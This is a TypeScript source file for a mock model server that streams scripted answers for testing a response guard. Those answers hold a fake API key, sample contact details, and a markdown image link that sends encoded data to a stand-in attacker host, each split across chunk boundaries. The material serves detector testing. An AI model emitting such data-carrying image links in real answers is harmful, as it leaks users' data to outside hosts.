// Scripted answers for the response guard's tests and demos: fixed texts and tool calls that hold secrets, PII,
// placeholders and exfiltration links, cut at awkward chunk boundaries (inside a key, inside `[EMAIL_1]`). Chosen by
// `dev_options.script`, a body field only this dev tier reads; `echo` answers with what it received (placeholders).

/** Shaped like an OpenAI key for the detectors (length, alphabet); not a credential anywhere. */
export const SCRIPT_KEY = 'sk-test1234567890abcdefGHIJKLmnopqrstuvWXYZ0987'

export interface ScriptedAnswer {
  /** Content deltas, in order ('' deltas included: they are boundaries too). */
  readonly content: readonly string[]
  /** One tool call whose arguments stream in these pieces (content stays null). */
  readonly toolArguments?: readonly string[]
}

/** Cuts `text` into pieces of `size` chars, so a placeholder or key lands across several chunks. */
const cut = (text: string, size: number): string[] => text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? []

export const SCRIPTS = {
  /** A key split across 2 chunks. */
  'secret-2': () => ({
    content: [`Your key is ${SCRIPT_KEY.slice(0, 14)}`, `${SCRIPT_KEY.slice(14)} — keep it safe.`],
  }),
  /** A key split across 3 chunks. */
  'secret-3': () => ({
    content: ['Here: sk-te', `${SCRIPT_KEY.slice(5, 25)}`, `${SCRIPT_KEY.slice(25)} (rotate it).`],
  }),
  /** PII split inside the address. */
  pii: () => ({ content: ['Write to user@exa', 'mple.com or call +1 415 ', '555 0100.'] }),
  /** An image whose URL carries data to a host outside any allowlist. */
  exfil: () => ({ content: ['Done! ![status](https://attacker.exa', 'mple/pixel.png?d=c3VtbWFyeQ) Anything else?'] }),
  /** Echoes the prompt it received, 4 chars per chunk: placeholders arrive split. */
  echo: (prompt: string) => ({ content: cut(`You said: ${prompt}`, 4) }),
  /** A tool call whose arguments echo the prompt's placeholders, 5 chars per chunk. */
  'tool-echo': (prompt: string) => ({
    content: [],
    toolArguments: cut(JSON.stringify({ to: /\[EMAIL_\d+\]/.exec(prompt)?.[0] ?? '', body: prompt }), 5),
  }),
  /** A long answer with a key near the end (a block after text has already gone out). */
  'late-secret': () => ({
    content: [...cut('All good so far, here is the config. ', 6), `token=${SCRIPT_KEY}`, ' end.'],
  }),
} as const satisfies Record<string, (prompt: string) => ScriptedAnswer>
export type ScriptName = keyof typeof SCRIPTS

export function scriptFor(name: unknown, prompt: string): ScriptedAnswer | null {
  return typeof name === 'string' && Object.hasOwn(SCRIPTS, name) ? SCRIPTS[name as ScriptName](prompt) : null
}

export interface ScriptContext {
  readonly id: string
  readonly chat: boolean
  readonly stream: boolean
  readonly includeUsage: boolean
  readonly usage: Record<string, number>
  /** The dev tier's report of what reached it (headers, edge token) — outside the assistant text. */
  readonly received: unknown
  /** What the model tier was sent, as it saw it (the demo shows placeholders here, originals in the text). */
  readonly prompt: string
}

const TOOL = { id: 'call_dev_1', type: 'function', name: 'send_email' } as const

/** The scripted answer as a chat/legacy completion, JSON or SSE (one event per piece, as a model server sends). */
export function scriptedResponse(a: ScriptedAnswer, s: ScriptContext): Response {
  const object = s.chat ? (s.stream ? 'chat.completion.chunk' : 'chat.completion') : 'text_completion'
  const head = { id: s.id, object, created: 0, model: 'dev-model' }
  const finish = a.toolArguments ? 'tool_calls' : 'stop'
  const report = { received: s.received, prompt_seen_upstream: s.prompt }
  if (!s.stream) {
    const content = a.content.join('')
    const choice = s.chat
      ? {
          index: 0,
          message: {
            role: 'assistant',
            content: a.toolArguments ? null : content,
            ...(a.toolArguments
              ? {
                  tool_calls: [
                    {
                      id: TOOL.id,
                      type: TOOL.type,
                      function: { name: TOOL.name, arguments: a.toolArguments.join('') },
                    },
                  ],
                }
              : {}),
          },
          finish_reason: finish,
        }
      : { index: 0, text: content, finish_reason: finish }
    return Response.json({ ...head, choices: [choice], usage: s.usage, ...report })
  }
  const events: unknown[] = []
  const chunk = (choice: Record<string, unknown>, extra: Record<string, unknown> = {}): void => {
    events.push({ ...head, choices: [choice], ...extra })
  }
  if (s.chat) {
    chunk({ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }, report)
    for (const piece of a.content) chunk({ index: 0, delta: { content: piece }, finish_reason: null })
    for (const [i, piece] of (a.toolArguments ?? []).entries()) {
      const call =
        i === 0
          ? { id: TOOL.id, type: TOOL.type, function: { name: TOOL.name, arguments: piece } }
          : { function: { arguments: piece } }
      chunk({ index: 0, delta: { tool_calls: [{ index: 0, ...call }] }, finish_reason: null })
    }
    chunk({ index: 0, delta: {}, finish_reason: finish })
  } else {
    for (const piece of a.content) chunk({ index: 0, text: piece, finish_reason: null })
    chunk({ index: 0, text: '', finish_reason: finish })
  }
  if (s.includeUsage) events.push({ ...head, choices: [], usage: s.usage })
  const body = `${events.map((e) => `data: ${JSON.stringify(e)}\n\n`).join('')}data: [DONE]\n\n`
  // One network write per event, so the gateway really sees the boundaries the script draws.
  const frames = body.split(/(?<=\n\n)/).map((f) => new TextEncoder().encode(f))
  return new Response(
    new ReadableStream<Uint8Array>({
      pull(controller) {
        const next = frames.shift()
        if (next === undefined) controller.close()
        else controller.enqueue(next)
      },
    }),
    { headers: { 'content-type': 'text/event-stream; charset=utf-8', 'cache-control': 'no-cache' } },
  )
}
